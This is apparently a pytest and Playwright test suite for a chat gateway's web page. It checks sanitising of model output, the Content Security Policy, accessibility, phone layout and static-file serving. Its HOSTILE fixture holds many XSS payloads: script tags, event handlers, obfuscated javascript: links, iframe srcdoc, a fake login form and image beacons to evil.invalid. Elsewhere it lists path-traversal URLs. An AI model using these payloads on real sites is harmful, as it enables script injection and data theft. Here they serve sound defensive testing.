"""What the chat page lets nobody do, who can use it, and how its files are sent."""

import re
from hashlib import sha256
from typing import Any

import pytest
from playwright.async_api import Browser, expect

from gateway.routes.page import CONTENT_SECURITY_POLICY
from tests.browser import PHONE, Chat, photo, visit
from tests.client import User, prompt
from tests.cluster import Cluster, Gemini
from tests.e2e.pages.test_conversation import ANSWER
from tests.gemini_server import Script
from tests.processes import ROOT

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(60)]

PAGE = ROOT / "gateway" / "page"

HOSTILE = """\
# Quite <b onclick="hacked('heading')">harmless</b>

<script>hacked("script")</script>
<img src="https://evil.invalid/pixel" onerror="hacked('onerror')">
<svg onload="hacked('svg')"><script>hacked("svg script")</script></svg>
<style>body { background: url("https://evil.invalid/style") }</style>
<link rel="stylesheet" href="https://evil.invalid/sheet.css">
<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0; url=https://evil.invalid/">
<iframe src="https://evil.invalid/frame" srcdoc="<script>parent.hacked('frame')</script>"></iframe>
<form action="https://evil.invalid/form"><input name="token"><button>Log in</button></form>
<a href="javascript:hacked('html link')" style="position:fixed;inset:0">here</a>
<div id="message" class="dock" style="background:url(https://evil.invalid/style)">clobbered</div>

[one](javascript:hacked('link')) [two](JaVaScRiPt&colon;hacked('entity'))
[three](data:text/html,<script>hacked(1)</script>)
[four](vbscript:hacked) [five](&#x6A;avascript:hacked('hex')) [six](/session) [seven](//evil.invalid/relative)
<javascript:hacked('autolink')> [eight](https://example.com/"onmouseover="hacked('quote'))

![a secret](https://evil.invalid/pixel?secret=1) ![x](data:image/svg+xml,<svg/onload=hacked('image')>)

```js" onmouseover="hacked('fence')
</code></pre><script>hacked("code")</script>
```

| <img src=x onerror=hacked('cell')> | b |
|--|--|
| `</code><script>hacked(2)</script>` | [x](javascript:hacked('cell')) |
"""


@pytest.mark.needs_chromium
async def test_a_models_text_can_run_and_load_nothing(browser: Browser, cluster: Cluster, gemini: Gemini) -> None:
    url = cluster.gateways[0].url
    async with visit(browser, url) as chat:
        asked: list[str] = []
        dialogs: list[str] = []
        chat.page.on("request", lambda request: asked.append(request.url))
        chat.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        await chat.page.evaluate("() => { window.ran = []; window.hacked = what => { ran.push(what); }; }")
        await gemini.script(Script(text=HOSTILE, chunks=60, delay=0.005))
        answer = await chat.ask("Show me something harmless.")
        await _touch_everything(chat)
        await chat.shot("hostile")
        assert await chat.page.evaluate("ran") == []
        assert dialogs == []
        assert [address for address in asked if not address.startswith((url, "data:image/webp"))] == []
        prose = answer.locator(".prose")
        await expect(
            prose.locator("script, style, link, base, meta, iframe, form, input, img, svg script")
        ).to_have_count(0)
        await expect(
            prose.locator("[style], [id], [name], [onclick], [onerror], [onload], [onmouseover]")
        ).to_have_count(0)
        targets = await prose.locator("a[href]").evaluate_all("links => links.map(link => link.getAttribute('href'))")
        assert [target for target in targets if not re.match(r"https?://(example\.com|evil\.invalid)/", target)] == []
        await expect(prose).to_contain_text('<script>hacked("script")</script>')


@pytest.mark.needs_chromium
async def test_markup_that_got_past_the_sanitiser_could_do_nothing_all_the_same(
    browser: Browser, cluster: Cluster, gemini: Gemini
) -> None:
    breaches = ("Content Security Policy", "TrustedHTML", "TrustedScript")
    async with visit(browser, cluster.gateways[0].url, forgive=breaches) as chat:
        told = await chat.page.evaluate(
            """async () => {
              window.ran = [];
              const told = [];
              const noted = event => told.push(event.effectiveDirective);
              document.addEventListener("securitypolicyviolation", noted);
              const refused = (what, attempt) => { try { attempt(); } catch { told.push(what); } };
              const add = (tag, name, value) => {
                const made = document.createElement(tag);
                document.body.append(made);
                made.setAttribute(name, value);
                made.click();
              };
              refused("markup", () => document.body.insertAdjacentHTML("beforeend", "<img>"));
              refused("handler", () => add("button", "onclick", "ran.push('handler ran')"));
              refused("script text", () => { document.querySelector("script").text = "ran.push('script ran')"; });
              add("p", "style", "color: red");
              add("img", "src", "https://evil.invalid/pixel");
              await fetch("https://evil.invalid/").catch(() => {});
              await new Promise(resolve => setTimeout(resolve, 200));
              return [...told, ...ran];
            }"""
        )
        assert {"markup", "handler", "script text", "img-src", "connect-src", "style-src-attr"} <= set(told)
        assert not {what for what in told if what.endswith(" ran")}


@pytest.mark.needs_chromium
@pytest.mark.parametrize("look", ["light", "dark", "phone"])
async def test_axe_finds_nothing_serious(browser: Browser, cluster: Cluster, gemini: Gemini, look: str) -> None:
    wanted: dict[str, Any] = {"light": {}, "dark": {"color_scheme": "dark"}, "phone": PHONE}[look]
    async with visit(browser, cluster.gateways[0].url, **wanted) as chat:
        await chat.shot(f"{look}-empty")
        found = await chat.accessibility_violations()
        await gemini.script(Script(text=ANSWER, chunks=20))
        await chat.attach(photo("harbour.png"))
        await chat.ask("Where is this, and how would I cache its price list?")
        await chat.shot(f"{look}-turn")
        await chat.page.locator("#scroller").evaluate("it => it.scrollTo(0, 0)")
        await chat.shot(f"{look}-turn-top")
        await chat.attach(photo("boat.png", hue=0.75), photo("lighthouse.png", hue=0.95))
        await chat.say(prompt("failing", "status=400"))
        await expect(chat.answers.last.locator(".failure")).to_be_visible()
        await chat.attach(photo("another.png"))
        await chat.shot(f"{look}-failed")
        found += await chat.accessibility_violations()
        await chat.page.get_by_role("button", name="New conversation").click()
        await chat.shot(f"{look}-question")
        found += await chat.accessibility_violations()
        assert found == []


@pytest.mark.needs_chromium
async def test_a_phone_shows_the_page_without_scrolling_sideways(
    browser: Browser, cluster: Cluster, gemini: Gemini
) -> None:
    async with visit(browser, cluster.gateways[0].url, **{**PHONE, "viewport": {"width": 320, "height": 568}}) as chat:
        await gemini.script(Script(text=ANSWER + "\n" + "x" * 400 + "\n\n`" + "y" * 400 + "`", chunks=9))
        await chat.ask("z" * 400)
        await chat.shot("phone-narrow")
        for element in ("document.documentElement", "document.getElementById('scroller')"):
            assert await chat.page.evaluate(f"{element}.scrollWidth <= {element}.clientWidth")
        small = await chat.page.locator("button:visible:not(.copy)").evaluate_all(
            "all => all.filter(it => Math.min(it.offsetWidth, it.offsetHeight) < 36).map(it => it.id || it.className)"
        )
        assert small == []


async def test_the_page_comes_with_a_strict_policy(user: User) -> None:
    answer = await user.call("GET", "/ui")
    assert answer.status == 200
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    policy = answer.headers["Content-Security-Policy"]
    assert policy == CONTENT_SECURITY_POLICY
    assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self'")
    assert "unsafe" not in policy
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert "Set-Cookie" not in answer.headers
    document = answer.body.decode()
    assert not re.search(r"<style|\sstyle=|\son\w+=|<script(?![^>]*\ssrc=)", document)
    assert not re.search(r"(?:src|href)=\"(?:https?:)?//", document)


async def test_every_file_of_the_page_is_there_with_its_type_and_asked_for_once(user: User) -> None:
    document = (await user.call("GET", "/ui")).body.decode()
    named = set(re.findall(r"(?:src|href)=\"((?:ui/|client)[^\"]+)\"", document))
    modules = {f"ui/{path.name}" for path in PAGE.glob("*.js")} - {"ui/client.js"}
    assert modules <= named, "index.html loads each module early"
    types = {"js": "text/javascript; charset=utf-8", "css": "text/css; charset=utf-8", "svg": "image/svg+xml"}
    for path in named:
        answer = await user.call("GET", f"/{path}")
        assert answer.status == 200, path
        assert answer.headers["Content-Type"] == types[path.rpartition(".")[2]]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        versioned = path.startswith("ui/vendor/")
        assert answer.headers["Cache-Control"] == ("public, max-age=31536000, immutable" if versioned else "no-cache")
        again = await user.call("GET", f"/{path}", headers={"If-None-Match": answer.headers["ETag"]})
        assert (again.status, again.body) == (304, b"")


async def test_the_client_module_may_be_imported_by_any_origin(user: User) -> None:
    answer = await user.call("GET", "/client.js", headers={"Origin": "https://shop.example"})
    assert answer.status == 200
    assert answer.headers["Access-Control-Allow-Origin"] in ("*", "https://shop.example")
    assert answer.headers["Cross-Origin-Resource-Policy"] == "cross-origin"


async def test_addresses_beside_the_pages_files_are_404(user: User) -> None:
    for path in ("/ui/nothing.js", "/ui/index.html", "/ui/client.js", "/ui/vendor/", "/ui/vendor/README.md"):
        (await user.call("GET", path)).refused(404, "not_found")
    for path in ("/ui/..%2f..%2fapp.py", "/ui/../app.py", "/ui/%2e%2e/settings.py"):
        assert (await user.call("GET", path)).status == 404
    moved = await user.call("GET", "/ui/", allow_redirects=False)
    assert (moved.status, moved.headers["Location"]) == (308, "../ui")


async def test_the_vendored_libraries_are_what_their_table_says() -> None:
    table = (PAGE / "vendor" / "README.md").read_text()
    rows = dict(re.findall(r"^\| (\S+\.js) \|.*\| ([0-9a-f]{64}) \|$", table, re.MULTILINE))
    there = {path.name: sha256(path.read_bytes()).hexdigest() for path in (PAGE / "vendor").glob("*.js")}
    assert rows == there
    for name in there:
        assert name in (PAGE / "markdown.js").read_text()


async def _touch_everything(chat: Chat) -> None:
    """What a hostile text may hope for: that every element is clicked, hovered and focused."""
    await chat.page.evaluate(
        """() => {
          for (const element of document.querySelectorAll(".prose *")) {
            if (element.closest("button")) continue;
            for (const type of ["mouseover", "focus", "toggle", "load", "error"]) {
              element.dispatchEvent(new Event(type));
            }
            if (!element.matches("a[href]")) element.dispatchEvent(new MouseEvent("click"));
          }
        }"""
    )
